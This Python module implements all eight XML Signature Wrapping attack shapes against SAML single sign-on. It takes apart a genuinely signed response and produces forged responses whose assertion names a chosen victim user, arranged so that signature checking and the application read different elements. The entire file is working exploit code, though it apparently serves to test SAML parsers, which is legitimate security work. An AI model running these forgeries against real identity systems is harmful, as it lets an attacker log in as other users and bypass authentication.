"""The eight known shapes of signature wrapping (Somorovsky et al., USENIX Security 2012).

Each takes a rightly signed answer and puts a forged element where one parser looks, while the
signed one stays where another parser finds it. XSW1 and 2 wrap the response, 3 to 8 the assertion.
"""

import re
from collections.abc import Callable
from dataclasses import dataclass

_ASSERTION = re.compile(r"<saml:Assertion .*</saml:Assertion>", re.DOTALL)
_SIGNATURE = re.compile(r"<(\w+:)?Signature[ >].*?</(\w+:)?Signature>", re.DOTALL)
_ID = re.compile(r' ID="[^"]+"')


@dataclass(frozen=True)
class Parts:
    """A signed answer, taken apart."""

    response: str
    assertion: str
    response_signature: str
    assertion_signature: str
    victim: str

    @property
    def bare_assertion(self) -> str:
        return self.assertion.replace(self.assertion_signature, "")

    @property
    def forged_assertion(self) -> str:
        return _forged(self.bare_assertion, self.victim)

    @property
    def forged_response(self) -> str:
        bare = self.response.replace(self.response_signature, "").replace(self.assertion_signature, "")
        return _forged(bare, self.victim, count=1)


def take_apart(signed: str, victim: str) -> Parts:
    found = _ASSERTION.search(signed)
    assert found is not None
    assertion = found.group()
    inner, outer = _SIGNATURE.search(assertion), _SIGNATURE.search(signed.replace(assertion, ""))
    assert inner is not None
    assert outer is not None
    return Parts(signed, assertion, outer.group(), inner.group(), victim)


def _forged(text: str, victim: str, count: int = 0) -> str:
    text = _ID.sub(lambda match: f'{match.group()[:-1]}-forged"', text, count=count)
    return re.sub(r"(<saml:NameID[^>]*>)[^<]*", rf"\g<1>{victim}", text)


def _inside(element: str, child: str) -> str:
    """Put a child at the end of an element."""
    closing = element.rindex("</")
    return element[:closing] + child + element[closing:]


def _object(content: str) -> str:
    return f'<ds:Object xmlns:ds="http://www.w3.org/2000/09/xmldsig#">{content}</ds:Object>'


def _after_issuer(element: str, *children: str) -> str:
    end = element.index("</saml:Issuer>") + len("</saml:Issuer>")
    return element[:end] + "".join(children) + element[end:]


def xsw1(parts: Parts) -> str:
    original = parts.response.replace(parts.response_signature, "")
    return _after_issuer(parts.forged_response, _inside(parts.response_signature, original))


def xsw2(parts: Parts) -> str:
    original = parts.response.replace(parts.response_signature, "")
    return _after_issuer(parts.forged_response, original, parts.response_signature)


def xsw3(parts: Parts) -> str:
    return parts.response.replace(parts.assertion, parts.forged_assertion + parts.assertion)


def xsw4(parts: Parts) -> str:
    return parts.response.replace(parts.assertion, _inside(parts.forged_assertion, parts.assertion))


def xsw5(parts: Parts) -> str:
    forged = _after_issuer(parts.forged_assertion, parts.assertion_signature)
    return parts.response.replace(parts.assertion, forged + parts.bare_assertion)


def xsw6(parts: Parts) -> str:
    signature = _inside(parts.assertion_signature, parts.bare_assertion)
    return parts.response.replace(parts.assertion, _after_issuer(parts.forged_assertion, signature))


def xsw7(parts: Parts) -> str:
    extensions = f"<samlp:Extensions>{parts.forged_assertion}</samlp:Extensions>"
    return _after_issuer(parts.response, extensions)


def xsw8(parts: Parts) -> str:
    signature = _inside(parts.assertion_signature, _object(parts.bare_assertion))
    return parts.response.replace(parts.assertion, _after_issuer(parts.forged_assertion, signature))


SHAPES: dict[str, Callable[[Parts], str]] = {
    each.__name__: each for each in (xsw1, xsw2, xsw3, xsw4, xsw5, xsw6, xsw7, xsw8)
}
